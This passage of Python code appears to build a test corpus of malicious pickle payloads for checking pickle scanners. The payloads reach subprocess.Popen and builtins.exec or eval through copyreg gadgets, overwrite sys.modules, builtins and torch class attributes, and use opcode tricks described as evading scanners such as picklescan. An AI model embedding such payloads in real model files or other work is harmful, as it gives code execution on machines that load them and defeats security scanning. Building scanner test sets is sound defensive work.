        payload("EXT1 after add_extension", "the file fills the registry first", lambda c: call(
            stacked("copyreg", "add_extension"), text("builtins"), text("exec"), number(240)) + b"0"
            + call(b"\x82\xf0", text(source(c))), fire),
        payload("copyreg's constructor", "copyreg", lambda c: call(
            stacked("copyreg", "_reconstructor"), stacked("subprocess", "Popen"), stacked("builtins", "object"), b"N")),
        payload("copyreg __newobj__", "copyreg", lambda c: call(stacked("copyreg", "__newobj__"), stacked("subprocess",
            "Popen"))),
        payload("NEXT_BUFFER", "a buffer that is not there", lambda c: b"\x97\x98" + touch(c) + b"0"),
        payload("a buffer's bytes changed", "BYTEARRAY8 with APPENDS", lambda c: b"\x96" + struct.pack("<Q", 2) + b"ab(K\x01e"),
        payload("POP of the mark", "stacks that scanners lose", lambda c: b"(0" + touch(c), fire),
        payload("POP_MARK over a payload", "the payload's value is thrown away", lambda c: b"(" + touch(c) + b"1N", fire),
        payload("DUP of a payload", "stacks that scanners lose", lambda c: touch(c) + b"20", fire),
        payload("PROTO in the middle", "an opcode out of place", lambda c: touch(c) + b"\x80\x02", fire),
        payload("FRAME of the wrong length", "frames that readers trust", lambda c: b"\x95" + struct.pack("<Q", 3) + touch(c)),
        payload("a payload, then damage", "picklescan: what runs before the scan fails", lambda c: touch(c) + b"0\xff\xff"),
        payload("sys.modules overwritten", "picklescan's test files", lambda c: (
            stacked("sys", "modules") + text("torch") + stacked("builtins", "eval") + b"s")),
        payload("a builtin overwritten", "BUILD on a module", lambda c: (
            call(import_, text("builtins")) + pairs(text("isinstance"), stacked("builtins", "print")) + b"b")),
        payload("a class attribute overwritten", "BUILD on an allowed class", lambda c: (
            stacked("torch.nn.modules.linear", "Linear") + b"N" + pairs(text("forward"), stacked("builtins",
                "exec")) + b"\x86b")),
        payload("a class's setstate called", "a method of an allowed class, under another name", lambda c: call(
            stacked("torch.nn.modules.module", "Module.__setstate__"), call(stacked("torch.nn.modules.module", "Module")),
                b"}")),
    ]  # fmt: skip


PAYLOADS: list[Payload] = [*_gadgets(), *_chains()]
